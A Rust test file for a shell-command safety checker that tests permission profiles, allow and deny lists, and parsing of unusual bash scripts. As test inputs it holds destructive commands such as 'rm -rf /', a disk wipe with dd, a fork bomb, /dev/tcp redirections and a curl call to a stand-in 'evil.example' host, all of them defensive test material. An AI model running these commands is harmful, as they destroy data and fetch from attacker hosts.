//! Profiles, lists, and scripts that only bash can read.

use super::found;
use crate::safety::{Place, Policy, Profile, Rule};
use std::path::Path;

#[test]
fn a_profile_says_which_rules_hold() {
    use Profile::{Permissive, Standard, Unrestricted};
    for (script, profile, want) in [
        ("sudo ls", Standard, Some(Rule::Privilege)),
        ("sudo ls", Permissive, None),
        ("echo 'unfinished", Permissive, None),
        ("sudo rm -rf /", Permissive, Some(Rule::RecursiveRemoval)),
        (
            "su -c 'rm -rf /' root",
            Permissive,
            Some(Rule::RecursiveRemoval),
        ),
        (
            "dd if=/dev/zero of=/dev/sda; :(){ :|:& };:",
            Permissive,
            Some(Rule::ForkBomb),
        ),
        ("rm -rf /", Unrestricted, None),
    ] {
        let got = found(script, profile, &[], &[]).map(|(rule, _)| rule);
        assert_eq!(got, want, "{script} under {profile:?}");
    }
}

#[test]
fn allow_lists_win_except_under_strict() {
    let allow = ["SUDO apt-get install*", "chmod"];
    for (script, profile, want) in [
        ("sudo apt-get install x", Profile::Standard, None),
        (
            "sudo apt-get install x",
            Profile::Strict,
            Some(Rule::Privilege),
        ),
        ("sudo ls", Profile::Standard, Some(Rule::Privilege)),
        ("chmod 777 /", Profile::Standard, None),
        (
            "sudo apt-get install x && rm -rf /",
            Profile::Standard,
            Some(Rule::RecursiveRemoval),
        ),
    ] {
        let got = found(script, profile, &allow, &[]).map(|(rule, _)| rule);
        assert_eq!(got, want, "{script} under {profile:?}");
    }
}

#[test]
fn deny_lists_win_over_everything_and_see_every_simple_command() {
    let block = ["git push", "curl *evil.example*"];
    for (script, want) in [
        ("git push origin main", true),
        ("ls; GIT   Push", true),
        ("/usr/bin/git push", true),
        ("env A=1 sh -c 'git push'", true),
        ("echo $(curl -s http://EVIL.example/x)", true),
        ("git pushed", false),
        ("git pull", false),
        ("echo git push", false),
    ] {
        for profile in [Profile::Strict, Profile::Unrestricted] {
            let got = found(script, profile, &["*"], &block).map(|(rule, _)| rule);
            assert_eq!(
                got,
                want.then_some(Rule::Denied),
                "{script} under {profile:?}"
            );
        }
    }
    assert!(Policy::new(Profile::Strict, &[], &["[".to_string()]).is_err());
}

#[test]
fn what_only_bash_can_read_is_looked_at_by_words() {
    let policy = Policy::new(Profile::Strict, &[], &[]).unwrap();
    let place = Place {
        cwd: Path::new("/work"),
        home: Path::new("/home/me"),
    };
    let judge = |script| {
        policy
            .judge(script, place, |_| Ok(()))
            .map_err(|finding| finding.rule)
    };
    let unknown_here = "exec 3<>/dev/tcp/localhost/80; ls";
    assert!(Policy::judge(&policy, unknown_here, place, |_| Err("no".into())).is_err());
    assert_eq!(judge(unknown_here), Ok(()));
    assert_eq!(
        judge("exec 3<>/dev/tcp/localhost/80; if x; then rm -rf \"/\"; fi"),
        Err(Rule::RecursiveRemoval)
    );
    assert_eq!(
        judge("exec 3<>/dev/tcp/localhost/80; ls >/dev/sda"),
        Err(Rule::DeviceRedirect)
    );
}

#[test]
fn a_finding_shows_the_command_as_it_was_read() {
    let (rule, command) = found(
        "ls; env rm -rf \"$HOME\"/* $UNKNOWN",
        Profile::Strict,
        &[],
        &[],
    )
    .unwrap();
    assert_eq!(
        (rule, command.as_str()),
        (Rule::RecursiveRemoval, "rm -rf /home/me/* $…")
    );
}

/// Random scripts of pieces that mean something to the shell: any answer will do, but there must be one.
#[test]
fn no_script_is_too_odd_to_be_judged() {
    const PIECES: [&str; 48] = [
        "rm -rf /",
        "$(",
        ")",
        "`",
        "\"",
        "'",
        "${",
        "}",
        "$x",
        "$",
        "\\",
        "\n",
        ";",
        "&",
        "&&",
        "|",
        "||",
        "<",
        ">",
        "<<E",
        "E\n",
        "<<<",
        "{",
        "(",
        "((",
        "))",
        "[[",
        "]]",
        "f()",
        "function f",
        "if",
        "then",
        "fi",
        "for x in",
        "do",
        "done",
        "case",
        "esac",
        "=",
        "+=",
        "x=",
        "~",
        "*",
        "{a,b}",
        "$'\\x4",
        "é🦀",
        "env -S",
        "sh -c",
    ];
    let mut state = 1_u64;
    let mut random = |below: usize| {
        state = state
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1);
        usize::try_from(state >> 33).unwrap() % below
    };
    for round in 0..3000 {
        let length = random(24);
        let pieces: Vec<&str> = (0..length).map(|_| PIECES[random(PIECES.len())]).collect();
        let script = pieces.join(if random(3) == 0 { "" } else { " " });
        let policy = Policy::new(Profile::Strict, &[], &[]).unwrap();
        let place = Place {
            cwd: Path::new("/work"),
            home: Path::new("/home/me"),
        };
        let readable = |_: &str| {
            if round % 2 == 0 {
                Ok(())
            } else {
                Err("no".into())
            }
        };
        let verdict = policy.judge(&script, place, readable);
        assert!(verdict.is_ok() || verdict.is_err_and(|finding| !finding.reason.is_empty()));
    }
}
